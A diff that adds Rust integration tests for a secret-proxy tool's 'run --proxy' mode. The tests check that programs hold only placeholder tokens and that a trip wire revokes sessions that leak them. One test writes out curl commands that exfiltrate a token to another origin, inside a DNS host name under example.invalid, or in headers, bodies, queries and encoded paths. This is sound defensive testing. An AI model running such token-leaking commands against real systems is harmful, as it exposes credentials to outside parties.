@@ -789,3 +789,237 @@ fn listening_beyond_loopback_is_warned_and_a_bad_address_is_one_line() {
     let _ = child.wait();
     assert!(seen.contains("beyond this machine"), "{seen}");
 }
+
+// ---------------------------------------------------------------------------
+// `airlock run --proxy`: the program holds a placeholder, the run's own proxy
+// puts the key on requests to the placeholder's service only, and a
+// placeholder anywhere else trips the wire.
+
+/// A home whose service "remote" is `tls_upstream`'s (its CA named), with an
+/// exec capability "tool" for `sh` that puts {{secret}} in `TOKEN`; service
+/// "local" (plain http on `http_port`) as [`home`] makes it.
+fn run_home(http_port: u16, https_port: u16, upstream_ca: &str) -> (tempfile::TempDir, PathBuf) {
+    let (dir, home) = home(http_port, https_port);
+    let ca_path = dir.path().join("upstream-ca.pem");
+    std::fs::write(&ca_path, upstream_ca).unwrap();
+    let toml = home.join("airlock.toml");
+    let config = std::fs::read_to_string(&toml).unwrap().replace(
+        "[services.remote]\n",
+        &format!("[services.remote]\nca_file = \"{}\"\n", ca_path.display()),
+    );
+    std::fs::write(&toml, config).unwrap();
+    ok(airlock(&home)
+        .args([
+            "cap",
+            "add",
+            "tool",
+            "--service",
+            "remote",
+            "--mode",
+            "exec",
+            "--command",
+            "sh",
+            "--env",
+            "TOKEN={{secret}}",
+        ])
+        .output()
+        .unwrap());
+    (dir, home)
+}
+
+/// `airlock run --proxy ARGS... -- sh -c SCRIPT` in `cwd`, without the test's
+/// own proxy variables; (exit code, stdout, stderr).
+fn run_proxied(home: &Path, cwd: &Path, args: &[&str], script: &str) -> (i32, String, String) {
+    let out = airlock(home)
+        .arg("run")
+        .args(args)
+        .args(["--", "sh", "-c", script])
+        .current_dir(cwd)
+        .env_remove("HTTPS_PROXY")
+        .env_remove("https_proxy")
+        .env_remove("HTTP_PROXY")
+        .env_remove("http_proxy")
+        .output()
+        .unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn run_proxy_gives_a_placeholder_and_the_key_goes_only_on_its_service() {
+    let (port, upstream_ca, seen) = tls_upstream();
+    let (dir, home) = run_home(closed_port(), port, &upstream_ca);
+    // No --cap: "tool" is the exec capability whose commands name `sh`.
+    let script = format!(
+        r#"printf %s "$TOKEN" > held.txt; env > env.txt
+curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" "https://127.0.0.1:{port}/v1/customers?limit=2""#
+    );
+    let (code, out, err) = run_proxied(&home, dir.path(), &["--proxy"], &script);
+    assert_eq!(code, 0, "{err}");
+    let answer: serde_json::Value =
+        serde_json::from_str(&out).unwrap_or_else(|_| panic!("{out} {err}"));
+    assert_eq!(answer["line"], "GET /v1/customers?limit=2 HTTP/1.1");
+    assert_eq!(answer["authorization"], "Bearer [REDACTED:local]");
+    // The program held a placeholder, never the key.
+    let held = std::fs::read_to_string(dir.path().join("held.txt")).unwrap();
+    assert!(
+        held.starts_with("airlock_ph_") && held.len() == 51,
+        "{held}"
+    );
+    let env = std::fs::read_to_string(dir.path().join("env.txt")).unwrap();
+    assert!(!env.contains(SECRET), "{env}");
+    assert!(
+        env.contains("HTTPS_PROXY=http://airlock:airlock_run_"),
+        "{env}"
+    );
+    assert!(env.contains("NO_PROXY=\n"), "{env}");
+    // The upstream got the real key and never the placeholder.
+    let heads = seen.lock().unwrap().join("");
+    assert!(heads.contains(&format!("Bearer {SECRET}")), "{heads}");
+    assert!(!heads.contains(&held), "{heads}");
+    assert!(audit_contains(&home, "placeholders for services [remote]"));
+    assert!(audit_contains(&home, "/v1/customers"));
+    for file in files_under(&home) {
+        let bytes = std::fs::read(&file).unwrap();
+        assert!(
+            !bytes.windows(held.len()).any(|w| w == held.as_bytes()),
+            "{}",
+            file.display()
+        );
+    }
+}
+
+#[test]
+fn a_placeholder_anywhere_else_trips_the_wire_and_ends_the_run_s_access() {
+    let (port, upstream_ca, seen) = tls_upstream();
+    let (up, seen_local) = upstream();
+    let (dir, home) = run_home(up, port, &upstream_ca);
+    let remote = format!("https://127.0.0.1:{port}/v1/customers");
+    let cases = [
+        // To another service's origin (the program may not reach it either).
+        format!(r#"curl -sS -H "Authorization: Bearer $TOKEN" http://127.0.0.1:{up}/v1/x"#),
+        // In the CONNECT target's host name (DNS exfiltration's shape).
+        format!(r#"curl -sS "https://$TOKEN.example.invalid:{port}/""#),
+        // The right origin, another header.
+        format!(r#"curl -sS -H "X-Debug: $TOKEN" {remote}"#),
+        // The right origin, in the body.
+        format!(r#"curl -sS --data "token=$TOKEN" {remote}"#),
+        // The right origin, in the query.
+        format!(r#"curl -sS "{remote}?key=$TOKEN""#),
+        // The right origin, percent-encoded in the path.
+        format!(r#"curl -sS "{remote}/$(printf %s "$TOKEN" | sed 's/a/%61/g')""#),
+    ];
+    for case in cases {
+        // The trip, then a clean request: refused at its CONNECT, the session
+        // is revoked.
+        let script = format!(
+            "{case}; echo; curl -sS -w 'FOLLOW %{{http_code}} %{{http_connect}}\\n' {remote}; exit 0"
+        );
+        let (code, out, err) =
+            run_proxied(&home, dir.path(), &["--proxy", "--cap", "tool"], &script);
+        assert_eq!(code, 0, "{case}: {err}");
+        assert!(err.contains("placeholder trip wire"), "{case}: {err}");
+        assert!(out.contains("FOLLOW 000 403"), "{case}: {out} {err}");
+    }
+    assert_untouched(&seen);
+    assert_untouched(&seen_local);
+    assert!(audit_contains(
+        &home,
+        "placeholder trip wire: the placeholder for service \\\"remote\\\" was sent in header \\\"x-debug\\\""
+    ));
+    assert!(audit_contains(&home, "the body of a request"));
+    assert!(audit_contains(
+        &home,
+        "the placeholder trip wire tripped (session revoked)"
+    ));
+    let logs = ok(airlock(&home).args(["logs", "--json"]).output().unwrap());
+    assert!(String::from_utf8_lossy(&logs.stdout).contains("placeholder trip wire"));
+}
+
+#[test]
+fn run_proxy_stands_in_for_references_and_gives_other_secrets_as_themselves() {
+    let (port, upstream_ca, _seen) = tls_upstream();
+    let (dir, home) = run_home(closed_port(), port, &upstream_ca);
+    ok(airlock(&home)
+        .args(["secret", "set", "dbpass", "--from-env", "DBPASS"])
+        .env("DBPASS", "db_canary_password")
+        .output()
+        .unwrap());
+    let script = r#"printf '%s\n%s\n%s\n' "$TOKEN" "$REF" "$DB" > held.txt"#;
+    let out = airlock(&home)
+        .args(["run", "--proxy", "--cap", "tool", "--", "sh", "-c", script])
+        .current_dir(dir.path())
+        .env("REF", "airlock://remote")
+        .env("DB", "airlock://dbpass")
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{err}");
+    let held = std::fs::read_to_string(dir.path().join("held.txt")).unwrap();
+    let lines: Vec<&str> = held.lines().collect();
+    // The reference to the key of the run's service: the same placeholder.
+    assert_eq!(lines[0], lines[1]);
+    assert!(lines[0].starts_with("airlock_ph_"));
+    // A secret no service uses: as itself, and the run says so.
+    assert_eq!(lines[2], "db_canary_password");
+    assert!(err.contains("no service uses secret(s) [dbpass]"), "{err}");
+
+    // Two capabilities reach "remote": the run asks which one.
+    let out = airlock(&home)
+        .args(["run", "--proxy", "--", "true"])
+        .env("REF", "airlock://remote")
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success());
+    assert!(
+        err.contains("several capabilities (remote, tool)") && err.contains("--cap"),
+        "{err}"
+    );
+    assert_eq!(err.trim().lines().count(), 1, "{err}");
+}
+
+#[test]
+fn a_confined_run_reaches_the_network_only_through_its_proxy() {
+    if !matches!(
+        airlock_exec::Support::probe(),
+        airlock_exec::Support::Landlock { .. }
+    ) {
+        eprintln!("skipped: no Landlock here");
+        return;
+    }
+    let (port, upstream_ca, seen) = tls_upstream();
+    let (dir, home) = run_home(closed_port(), port, &upstream_ca);
+    let url = format!("https://127.0.0.1:{port}/v1/customers");
+    // Through the proxy: allowed. Around it (--noproxy): the sandbox refuses
+    // the connection; UDP too.
+    let script = format!(
+        r#"curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" {url}; echo
+curl -sS --max-time 5 --noproxy '*' -k {url}; echo "DIRECT-EXIT $?"
+python3 -c '
+import socket
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    print("UDP-OK")
+except PermissionError:
+    print("UDP-REFUSED")'
+exit 0"#
+    );
+    let work = dir.path().join("work");
+    std::fs::create_dir(&work).unwrap();
+    let (code, out, err) = run_proxied(
+        &home,
+        &work,
+        &["--confine", "--proxy", "--cap", "tool"],
+        &script,
+    );
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("Bearer [REDACTED:local]"), "{out} {err}");
+    // curl: "Failed to connect" (7), the kernel said EACCES.
+    assert!(out.contains("DIRECT-EXIT 7"), "{out} {err}");
+    assert!(out.contains("UDP-REFUSED"), "{out} {err}");
+    assert_eq!(seen.lock().unwrap().len(), 1);
+}
